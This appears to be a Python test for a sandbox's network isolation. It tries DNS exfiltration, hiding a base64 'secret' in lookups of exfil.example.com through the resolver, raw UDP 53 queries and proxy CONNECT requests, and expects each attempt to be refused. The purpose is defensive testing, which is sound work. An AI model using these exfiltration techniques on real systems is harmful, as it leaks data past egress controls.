# cordon: {"outcome": "succeeded", "egress": ["allowed.test:8080"], "stdout_has": ["resolver: failed", "dns over the proxy: 403", "name in a CONNECT: 403", "udp 53 to the test host: no route", "udp 53 to 192.0.2.53: no route"], "egress_refused": 2, "egress_reasons_have": ["not in the run's egress policy"], "egress_never_resolved": ["c2VjcmV0.exfil.example.com"], "on": {"smolvm": {"stdout_has": ["resolver: failed", "dns over the proxy: 403", "name in a CONNECT: 403", "udp 53 to the test host: no answer", "udp 53 to 192.0.2.53: no answer"]}}}
# DNS exfiltration from a run that has egress: data hidden in names. The sandbox has no resolver
# and no UDP path: in a namespace sandbox the getaddrinfo and both datagrams fail at once (no
# route); in a microVM the guest's stack takes a datagram and its VMM, in the run's namespace
# (loopback only), has nowhere to send it: no answer comes. 192.0.2.53 is documentation-only
# and the test host is the test's own, so no packet could go anywhere else;
# through the proxy, a name outside the policy is refused before it is ever resolved, so the
# data never reaches any DNS server. The battery checks the resolver was never asked.
import errno
import os
import socket
import urllib.error
import urllib.request

secret = "c2VjcmV0"  # base64 of "secret"
try:
    socket.getaddrinfo(f"{secret}.exfil.example.com", 80)
    print("resolver: RESOLVED")
except OSError as exc:
    print(f"resolver: failed ({exc})")
QUERY = (
    bytes.fromhex("abcd01000001000000000000")
    + b"\x08"
    + secret.encode()
    + b"\x05exfil\x07example\x03com\x00\x00\x01\x00\x01"
)
for label, address in (("the test host", "198.18.7.2"), ("192.0.2.53", "192.0.2.53")):
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.settimeout(3)
    try:
        udp.sendto(QUERY, (address, 53))
        print(f"udp 53 to {label}: ANSWERED {udp.recvfrom(512)[1]}")
    except TimeoutError:
        print(f"udp 53 to {label}: no answer (sent into nothing)")
    except OSError as exc:
        print(f"udp 53 to {label}: no route ({errno.errorcode.get(exc.errno, exc.errno)})")
try:
    urllib.request.urlopen(f"http://{secret}.exfil.example.com:53/", timeout=10)
    print("dns over the proxy: ALLOWED")
except urllib.error.HTTPError as exc:
    print(f"dns over the proxy: {exc.code}")
proxy = os.environ["HTTP_PROXY"].removeprefix("http://")
host, port = proxy.rsplit(":", 1)
with socket.create_connection((host, int(port)), timeout=10) as conn:
    conn.sendall(f"CONNECT {secret}.exfil.example.com:443 HTTP/1.1\r\n\r\n".encode())
    print(f"name in a CONNECT: {conn.recv(100).split()[1].decode()}")
